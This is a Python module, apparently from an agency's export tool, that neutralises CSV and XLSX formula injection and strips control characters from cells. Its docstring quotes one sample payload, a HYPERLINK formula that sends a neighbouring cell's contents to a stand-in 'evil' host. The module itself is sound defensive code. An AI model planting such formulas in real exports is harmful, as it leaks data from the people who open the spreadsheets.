"""Cells of the files a spreadsheet opens (CSV and XLSX exports, `--format csv` listings).

Names and labels come from outside the agency (a scenario, the national list, a GHT's own
account): a GHT named `=HYPERLINK("http://evil/?x="&A2,"GHT Lot")` would become a live
formula in Excel or LibreOffice, which can send the sheet's neighbouring cells to any address.
As OWASP recommends against CSV injection, a text cell that a spreadsheet would read as a
formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) is written with a
leading single quote, which spreadsheets show as text. Every exporter calls `safe_cell` on
every value, so the rule lives here only. Numbers and dates are not text: they stay as they
are (a count stays a number one can sum).

Control characters (other than tab, newline and carriage return) are replaced by U+FFFD: a
name edited in the database with `\x01` or an escape sequence would otherwise make openpyxl
refuse the whole workbook (`IllegalCharacterError`) and reach a terminal that `cat`s the CSV.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# what XML 1.0 (hence XLSX) cannot hold, plus DEL: C0 controls but tab, newline and CR
CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
REPLACEMENT = "\ufffd"


def safe_cell(value: Any) -> Any:
    """`value` unchanged unless it is text a spreadsheet would take for a formula (then
    prefixed with `'`) or text with control characters (then replaced by U+FFFD)."""
    if not isinstance(value, str):
        return value
    value = CONTROLS.sub(REPLACEMENT, value)
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def safe_row(row: Any) -> list[Any]:
    """`safe_cell` on each value of a row."""
    return [safe_cell(value) for value in row]
